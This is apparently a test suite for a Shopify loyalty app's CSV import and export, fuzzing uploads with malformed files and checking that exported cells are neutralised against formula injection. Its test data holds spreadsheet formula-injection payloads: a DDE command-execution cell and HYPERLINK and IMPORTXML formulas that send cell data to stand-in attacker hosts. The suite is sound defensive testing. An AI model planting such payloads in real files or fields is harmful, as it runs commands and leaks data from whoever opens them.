/**
 * CSV imports through the admin's upload action, fed random, malformed, oversized and boundary files: wrong
 * encodings (UTF-16, Latin-1), BOMs, huge fields, unbalanced quotes, formula cells, negative and huge numbers,
 * duplicate rows, wrong columns, our layout and Smile.io's and LoyaltyLion's with mangled values. The answer is a
 * preview (row-level errors) or a refusal with a reason, never a 500; nothing reaches customers or the ledger
 * before the merchant confirms; importing the same file again changes nothing. And the exports neutralise
 * formula injection: a customer named `=HYPERLINK(...)` is text in the spreadsheet, not a live formula.
 */
import fc from "fast-check";
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { Queue } from "~/jobs/queue.server";
import { TEST_API_KEY, TEST_SECRET, useAppEnv } from "../support/app-env";
import { createTestDatabase, type TestDatabase } from "../support/database";

const SHOP = "hostile-csv.myshopify.com";
const NOW = new Date("2026-11-20T12:00:00Z");
type Handler = (args: { request: Request; params: Record<string, string>; context: object }) => Promise<unknown>;

let db: TestDatabase;
let shopId: number;
let token: string;
let importAction: Handler;
const EMAILS = ["ann@example.com", "bo@example.com", "cy@example.com", "=cmd@example.com"];
const SHOPIFY_IDS = ["501", "502", "503", "504"];
// The queue's part is tested elsewhere with a real worker; here the confirmed job is run in-process.
const queue = { createQueue: async () => undefined, send: async () => undefined } as unknown as Queue;

beforeAll(async () => {
  db = await createTestDatabase();
  useAppEnv(db.url, { LOG_LEVEL: "silent" });
  const { APP_SCOPES } = await import("~/config/env.server");
  const { markShopInstalled } = await import("~/data/shops.server");
  const { mintSessionToken } = await import("~/shopify/session-token.server");
  await db.pool.query(`insert into "Session" (id, shop, state, "isOnline", scope, "accessToken") values ($1, $2, 'installed', false, $3, 'shpat_csv')`, [`offline_${SHOP}`, SHOP, APP_SCOPES]);
  shopId = (await markShopInstalled(db, SHOP, "USD")).id;
  for (const [index, email] of EMAILS.entries()) {
    await db.pool.query(`insert into "Customer" ("shopId", "shopifyCustomerId", email) values ($1, $2, $3)`, [shopId, SHOPIFY_IDS[index], email]);
  }
  token = await mintSessionToken({ shop: SHOP, apiKey: TEST_API_KEY, secret: TEST_SECRET, sub: "70001" });
  importAction = ((await import("~/routes/app.import._index")) as { action: Handler }).action;
}, 120_000);

afterAll(async () => {
  const { getDatabase } = await import("~/data/database.server");
  await getDatabase().close();
  await db?.drop();
});

interface Answer {
  status: number;
  body: string;
  location?: string | null;
  data?: any;
}

async function upload(bytes: Uint8Array, fileName = "points.csv"): Promise<Answer> {
  const form = new FormData();
  form.set("file", new File([bytes as Uint8Array<ArrayBuffer>], fileName, { type: "text/csv" }));
  const request = new Request("http://localhost/app/import?index", { method: "POST", headers: { authorization: `Bearer ${token}` }, body: form });
  try {
    const result: any = await importAction({ request, params: {}, context: {} });
    if (result instanceof Response) return { status: result.status, body: await result.text(), location: result.headers.get("location") };
    if (result && result.type === "DataWithResponseInit") return { status: result.init?.status ?? 200, body: JSON.stringify(result.data), data: result.data };
    return { status: 200, body: JSON.stringify(result), data: result };
  } catch (error) {
    if (error instanceof Response) return { status: error.status, body: await error.text() };
    return { status: 500, body: String((error as Error)?.stack ?? error) };
  }
}

/** What the merchant's customers hold: every customer row and every ledger entry of the database. */
async function loyaltyState() {
  const customers = (await db.pool.query(`select id::text, "shopifyCustomerId", email, "pointsBalance" from "Customer" order by id`)).rows;
  const ledger = (await db.pool.query(`select id::text, "customerId"::text, kind, points, "idempotencyKey" from "LedgerEntry" order by id`)).rows;
  return { customers, ledger };
}

function expectCleanAnswer(answer: Answer, what: string): void {
  expect(answer.status, `${what}: ${answer.body.slice(0, 600)}`).toBeLessThan(500);
  expect(answer.body, what).not.toMatch(/\n\s+at .+:\d+:\d+/);
  expect(answer.body, what).not.toMatch(/prisma|node_modules|\/work\/|violates|invalid byte sequence|SQLSTATE|TypeError|RangeError/i);
}

const jobIdOf = (answer: Answer) => /\/app\/import\/([0-9a-f-]{36})$/.exec(answer.location ?? "")?.[1];

/** A preview (a redirect to it) or a refusal with a message on the file field. */
function expectPreviewOrReason(answer: Answer, what: string): string | undefined {
  expectCleanAnswer(answer, what);
  if (answer.status === 302) {
    const jobId = jobIdOf(answer);
    expect(jobId, `${what}: ${answer.location}`).toBeDefined();
    return jobId;
  }
  expect(answer.status, `${what}: ${answer.body.slice(0, 300)}`).toBe(400);
  expect(typeof answer.data?.errors?.file === "string" && answer.data.errors.file.length > 0, `${what}: ${answer.body.slice(0, 300)}`).toBe(true);
  return undefined;
}

// ---- generators ----------------------------------------------------------------------------------------------

const LAYOUTS: string[][] = [
  ["email", "customer_id", "points", "reason", "occurred_at", "reference"],
  ["email", "points"],
  ["customer_id", "points", "reason"],
  ["Email", "Points Balance", "First Name", "Last Name", "VIP Tier"], // Smile.io's customer export
  ["email", "points_balance"], // Smile.io's points file
  ["Customer ID", "Email", "Points Approved", "Points Pending", "Enrolled"], // LoyaltyLion's export
  ["merchant_id", "email", "points_total", "enrolled"],
  ["name", "balance"], // no column we know
  ["email", "email", "points", "points"], // repeated columns
  ["__proto__", "constructor", "points", "email"],
];

const FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "=1\n=2"];
const NUMBERS = ["0", "-0", "1", "-1", "100", "-100", "+5", "1,000", "1.5", "1e3", "10000000", "10000001", "-10000001", "2147483648", "9007199254740993", "99999999999999999999999", "NaN", "Infinity", " 7 ", "٣", "0x10"];

const cell: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...EMAILS, ...SHOPIFY_IDS, "gid://shopify/Customer/501", "nobody@example.com", "not-an-email", "ANN@EXAMPLE.COM", " ann@example.com ") },
  { weight: 4, arbitrary: fc.constantFrom(...NUMBERS) },
  { weight: 2, arbitrary: fc.constantFrom(...FORMULAS) },
  { weight: 2, arbitrary: fc.constantFrom("", " ", '"', '""', 'a"b', '"unbalanced', "a,b", "line\nbreak", "cr\ronly", "\u0000", "a\u0000b", "\ufeff", "\u202e", "💥", "2026-01-01", "2099-01-01", "2026-13-45", "yes", "true") },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 30 }) },
  { weight: 1, arbitrary: fc.integer({ min: 201, max: 200_000 }).map((length) => "x".repeat(length)) },
);

/** Joins cells into CSV text, quoting properly or not at all (so quotes and separators in cells break rows). */
function toCsv(rows: string[][], quoting: boolean, eol: string): string {
  if (quoting) return Papa.unparse(rows, { newline: eol });
  return rows.map((row) => row.join(",")).join(eol);
}

type Encoding = "utf8" | "utf8-bom" | "utf16le-bom" | "utf16be-bom" | "latin1";

function encode(text: string, encoding: Encoding): Uint8Array {
  switch (encoding) {
    case "utf8":
      return Buffer.from(text, "utf8");
    case "utf8-bom":
      return Buffer.from(`\ufeff${text}`, "utf8");
    case "utf16le-bom":
      return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]);
    case "utf16be-bom": {
      const le = Buffer.from(text, "utf16le");
      for (let i = 0; i + 1 < le.length; i += 2) [le[i], le[i + 1]] = [le[i + 1], le[i]];
      return Buffer.concat([Buffer.from([0xfe, 0xff]), le]);
    }
    case "latin1":
      return Buffer.from(text, "latin1");
  }
}

const hostileFile = fc
  .record({
    header: fc.oneof({ weight: 5, arbitrary: fc.constantFrom(...LAYOUTS) }, { weight: 1, arbitrary: fc.array(cell, { minLength: 1, maxLength: 5 }) }),
    rows: fc.array(fc.array(cell, { minLength: 0, maxLength: 7 }), { maxLength: 12 }),
    duplicate: fc.boolean(),
    quoting: fc.boolean(),
    eol: fc.constantFrom("\n", "\r\n", "\r"),
    encoding: fc.constantFrom<Encoding>("utf8", "utf8", "utf8", "utf8-bom", "utf16le-bom", "utf16be-bom", "latin1"),
    tail: fc.constantFrom("", "\n", "\n\n\n", ",,,\n", '"'),
  })
  .map(({ header, rows, duplicate, quoting, eol, encoding, tail }) => {
    const body = duplicate && rows.length > 0 ? [...rows, ...rows] : rows;
    return { bytes: encode(toCsv([header, ...body], quoting, eol) + tail, encoding), describe: { header, rows: body.length, quoting, eol: JSON.stringify(eol), encoding } };
  });

// ---- tests -----------------------------------------------------------------------------------------------------

describe("uploading a hostile file", () => {
  test("a preview with row errors or a refusal with a reason, never a 500; nothing reaches customers or the ledger", async () => {
    const before = await loyaltyState();
    let previews = 0;
    await fc.assert(
      fc.asyncProperty(hostileFile, async ({ bytes, describe: what }) => {
        const answer = await upload(bytes);
        const jobId = expectPreviewOrReason(answer, JSON.stringify(what));
        if (jobId) {
          previews += 1;
          const { rows } = await db.pool.query(`select status, "totalRows", "validRows", "errorRows", "processedRows" from "ImportJob" where id = $1`, [jobId]);
          expect(rows).toHaveLength(1);
          expect(rows[0].status).toBe("previewed");
          expect(rows[0].processedRows).toBe(0);
          expect(rows[0].validRows + rows[0].errorRows).toBeLessThanOrEqual(rows[0].totalRows);
        }
        expect(await loyaltyState()).toEqual(before);
      }),
      { numRuns: 120 },
    );
    // The test is meaningful: many of the files get as far as a preview.
    expect(previews).toBeGreaterThan(10);
  });

  test.each<[string, Uint8Array]>([
    ["empty", new Uint8Array()],
    ["only a BOM", Buffer.from("\ufeff", "utf8")],
    ["a header and no rows", Buffer.from("email,points\n")],
    ["binary", Uint8Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256)],
    ["NUL bytes in a row", Buffer.from("email,points,reason\nann@example.com,5,a\u0000b\n")],
    ["UTF-16LE without a BOM", Buffer.from("email,points\nann@example.com,5\n", "utf16le")],
    ["an unbalanced quote swallowing the file", Buffer.from('email,points\n"ann@example.com,5\nbo@example.com,6\n')],
    ["one field of 5 MB", Buffer.from(`email,points,reason\nann@example.com,5,${"x".repeat(5 * 1024 * 1024)}\n`)],
    ["50,000 columns", Buffer.from(`email,points,${Array.from({ length: 50_000 }, (_, i) => `c${i}`).join(",")}\nann@example.com,5\n`)],
    ["100,000 rows", Buffer.from(`email,points\n${"ann@example.com,1\n".repeat(100_000)}`)],
    ["a formula as the points", Buffer.from("email,points\nann@example.com,=1+1\n")],
  ])("%s: a preview or a reason, nothing written", async (name, bytes) => {
    const before = await loyaltyState();
    expectPreviewOrReason(await upload(bytes), name);
    expect(await loyaltyState()).toEqual(before);
  });

  test("over 20 MB: refused with the limit as the reason", async () => {
    const before = await loyaltyState();
    const answer = await upload(Buffer.alloc(20 * 1024 * 1024 + 1, "a"));
    expect(answer.status).toBe(400);
    expect(answer.data.errors.file).toMatch(/20 MB/);
    expect(await loyaltyState()).toEqual(before);
  });
});

describe("confirming, and importing the same file again", () => {
  const validish = fc.record({
    layout: fc.constantFrom(0, 1, 3, 4, 5),
    rows: fc.array(fc.tuple(fc.constantFrom(...EMAILS, "nobody@example.com", "bad"), fc.constantFrom("0", "1", "5", "40", "-3", "1000", "10000001", "x")), { minLength: 1, maxLength: 10 }),
    duplicate: fc.boolean(),
  });

  function fileOf({ layout, rows, duplicate }: { layout: number; rows: [string, string][]; duplicate: boolean }): string {
    const all = duplicate ? [...rows, ...rows] : rows;
    const header = LAYOUTS[layout];
    const line = ([email, points]: [string, string]) =>
      header.map((column) => (/email/i.test(column) ? email : /points(_approved| balance|_balance)?$/i.test(column) ? points : /^customer id$/i.test(column) ? "" : ""));
    return Papa.unparse([header, ...all.map(line)]);
  }

  test("the run posts what the preview promised; the same file again changes nothing", async () => {
    const { startImport, runImport } = await import("~/services/admin/imports.server");
    const { findImportJob } = await import("~/data/admin/import-jobs.server");
    const { getDatabase } = await import("~/data/database.server");
    const database = getDatabase();
    await fc.assert(
      fc.asyncProperty(validish, async (spec) => {
        const bytes = Buffer.from(fileOf(spec));
        const importOnce = async () => {
          const jobId = expectPreviewOrReason(await upload(bytes), fileOf(spec));
          if (!jobId) return null;
          // A file with nothing to post (only errors and zero rows) cannot be started.
          const hasRows = (await findImportJob(database, shopId, jobId))!.validRows > 0;
          expect(await startImport({ database, queue, shopId, jobId })).toBe(hasRows);
          expect(await startImport({ database, queue, shopId, jobId })).toBe(false);
          await runImport({ database, jobId, now: () => NOW });
          return findImportJob(database, shopId, jobId);
        };
        const first = await importOnce();
        const afterFirst = await loyaltyState();
        const second = await importOnce();
        expect(await loyaltyState()).toEqual(afterFirst);
        if (first && second) {
          expect(second.status).toBe(first.status);
          if (first.validRows > 0) expect(first.status).toBe("completed");
        }
        // Balances are the ledger's sums, whatever the files did.
        const { rows } = await db.pool.query(
          `select c.id from "Customer" c left join (select "customerId", sum(points)::int as sum from "LedgerEntry" group by 1) l on l."customerId" = c.id where c."pointsBalance" <> coalesce(l.sum, 0) or c."pointsBalance" < 0`,
        );
        expect(rows).toEqual([]);
      }),
      {
        numRuns: 12,
        // CI's counterexample: cy's "-3" comes before her "1000"; the first run refused it, the second posted it.
        examples: [
          [
            {
              layout: 1,
              rows: [["=cmd@example.com", "10000001"], ["bo@example.com", "1"], ["bo@example.com", "-3"], ["cy@example.com", "-3"], ["ann@example.com", "0"], ["cy@example.com", "x"], ["bo@example.com", "1"], ["cy@example.com", "1000"], ["cy@example.com", "-3"], ["=cmd@example.com", "0"]],
              duplicate: true,
            },
          ],
        ],
      },
    );
  });
});

describe("exports", () => {
  test("formula cells from customers' names, emails and ledger reasons are neutralised; numbers stay numbers", async () => {
    const { exportCsvStream } = await import("~/services/admin/exports.server");
    const { getDatabase } = await import("~/data/database.server");
    const { adjustCustomerPoints } = await import("~/services/admin/adjustments.server");
    const { markShopInstalled } = await import("~/data/shops.server");
    const shop = (await markShopInstalled(db, "export-formulas.myshopify.com", "USD")).id;
    const names = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+SUM(1,2)", "-1+2", "@cmd", "\t=1", "\r=1", "=1\n=2", "Ann", "-", "'=already quoted"];
    const ids: string[] = [];
    for (const [i, name] of names.entries()) {
      const { rows } = await db.pool.query<{ id: string }>(
        `insert into "Customer" ("shopId", "shopifyCustomerId", email, "firstName", "lastName") values ($1, $2, $3, $4, $4) returning id::text`,
        [shop, String(9000 + i), `${i === 0 ? "=" : ""}p${i}@example.com`, name],
      );
      ids.push(rows[0].id);
    }
    const adjusted = await adjustCustomerPoints({ database: getDatabase(), shopId: shop, customerId: ids[0], points: 50, reason: "=IMPORTXML(CONCAT(\"http://evil/\",A2),\"//a\")", staffUserId: "1", submissionId: "8f8e4a7e-0000-4000-8000-000000000001", now: NOW });
    expect(adjusted.ok).toBe(true);
    const removed = await adjustCustomerPoints({ database: getDatabase(), shopId: shop, customerId: ids[0], points: -20, reason: "-correction", staffUserId: "1", submissionId: "8f8e4a7e-0000-4000-8000-000000000002", now: NOW });
    expect(removed.ok).toBe(true);

    const read = async (kind: "customers" | "ledger") => Papa.parse<string[]>(await new Response(exportCsvStream(getDatabase(), shop, kind, "USD")).text(), { skipEmptyLines: true }).data;
    const customers = await read("customers");
    const ledger = await read("ledger");
    // No cell a spreadsheet would evaluate: none starts with = + - @ tab or CR, except a plain signed number.
    for (const row of [...customers.slice(1), ...ledger.slice(1)]) {
      for (const value of row) expect(/^[=+\-@\t\r]/.test(value) && !/^[-+]?\d+(\.\d+)?$/.test(value), JSON.stringify(row)).toBe(false);
    }
    // The values are all there, readable: prefixed with an apostrophe, not dropped or altered otherwise.
    const first = customers.find((row) => row[0] === "9000")!;
    expect(first.slice(1, 4)).toEqual(["'=p0@example.com", `'${names[0]}`, `'${names[0]}`]);
    expect(customers.find((row) => row[0] === "9007")![2]).toBe("Ann");
    expect(customers.find((row) => row[0] === "9009")![2]).toBe("'=already quoted");
    expect(ledger.slice(1).map((row) => [row[4], row[8]])).toEqual([
      ["50", "'=IMPORTXML(CONCAT(\"http://evil/\",A2),\"//a\")"],
      ["-20", "'-correction"],
    ]);
  });
});
